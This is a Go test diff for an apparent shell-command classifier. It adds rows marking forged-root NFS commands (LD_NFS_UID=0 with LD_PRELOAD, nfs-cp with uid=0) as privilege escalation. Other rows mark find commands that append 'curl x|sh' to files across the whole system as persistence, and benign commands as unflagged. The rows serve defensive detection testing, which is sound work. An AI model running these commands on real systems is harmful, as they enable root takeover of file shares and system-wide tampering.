@@ -114,3 +114,27 @@ func TestDirectoryAdministration(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestForgedAndSpreadWrites: a forged NFS identity (libnfs's LD_NFS_UID=0,
+// or uid=0 in an nfs:// URL) acting on a share as root (README: "a forged
+// NFS uid 0 acting on a share is privilege-escalation"), and text
+// appended to every executable a search of the whole system finds
+// (heldout5's CALDERA ability: persistence, as an append to one startup
+// file is).
+func TestForgedAndSpreadWrites(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"LD_NFS_UID=0 LD_LIBRARY_PATH=./lib/.libs/ LD_PRELOAD=./ld_nfs.so chown root: nfs://nfs-server/nfs_root/a.out", PrivilegeEscalation},
+		{"LD_NFS_UID=0 LD_PRELOAD=./ld_nfs.so cp ../a.out nfs://nfs-server/nfs_root/", PrivilegeEscalation},
+		{"nfs-cp ./sh 'nfs://10.0.0.5/export/sh?uid=0&gid=0'", PrivilegeEscalation},
+		{"LD_NFS_UID=1000 LD_PRELOAD=./ld_nfs.so ls nfs://nfs-server/nfs_root/", ""},
+		{"nfs-ls nfs://10.0.0.5/export", ""},
+		{`find / -type f -perm -333 -exec sh -c 'echo "curl x|sh" >> "{}"' \;`, PersistenceStartupFiles},
+		{`find /usr/local/bin -executable -type f -exec sh -c 'echo /tmp/x >> {}' \;`, PersistenceStartupFiles},
+		{`find . -name '*.log' -exec sh -c 'echo done >> "{}"' \;`, ""},
+		{`find / -perm -4000 -type f 2>/dev/null`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
